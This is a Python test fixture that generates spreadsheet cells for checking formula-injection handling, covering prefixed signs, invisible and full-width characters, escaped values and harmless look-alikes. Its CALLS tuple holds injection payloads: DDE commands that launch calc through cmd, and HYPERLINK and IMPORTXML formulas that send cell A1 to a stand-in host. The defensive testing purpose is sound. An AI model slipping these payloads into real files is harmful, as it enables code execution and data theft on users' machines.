"""Cells that a spreadsheet could take for something else than the words they are."""

from __future__ import annotations

from itertools import chain, product

CALLS = ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example?\"&A1,\"click\")",
         "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
         "WEBSERVICE(\"http://x.example\")", "DDE(\"cmd\";\"/C calc\";\"x\")")  # fmt: skip
SIGNS = ("=", "+", "-", "@")
WIDE = ("＝1+1", "＋1", "－1", "＠SUM(1)", "−1")
BEFORE = (" ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\u200b", "\u3000", "\x0b",
          "\x0c", "\x01", "\x1f")  # fmt: skip
OURS = ("'=1+1", "''=1+1", "'", "''", "'plain", "'@x", "'\t=1", "' =1")
LOOKS_BAD_IS_FINE = (
    "-", "+", "=", "@", "-5", "-2 pounds", "+44 7700 900123", "@home", "--", "=)", "- a list",
    "|x", "%x", "a=1", "a\n=1+1", "a\t=1", "a,=1", "a;=1+1", 'a";=1+1', '"=1+1"', '"', '""', ",",
    ";", "", " ", "x ", " x", "Kōwhai Ānaru", "🙂 =1", "null", "TRUE", "007", "1e5", "2026-04-20",
    "_x000D_", "_x003D_1+1", "_x000d_x", "__x0041_", "line\r\nline", "line\rline", "line\n",
    "#REF!", "<script>alert(1)</script>", "&lt;", "]]>", "{=1}", "sep=;", "٣=٤",
)  # fmt: skip


def cells() -> list[str]:
    """Every cell, each once, without those that no file of this kind can hold (a zero)."""
    calls = (sign + call for sign, call in product(SIGNS, CALLS))
    blanks = (blank + "=1+1" for blank in BEFORE)
    return list(dict.fromkeys(chain(calls, WIDE, blanks, OURS, LOOKS_BAD_IS_FINE)))
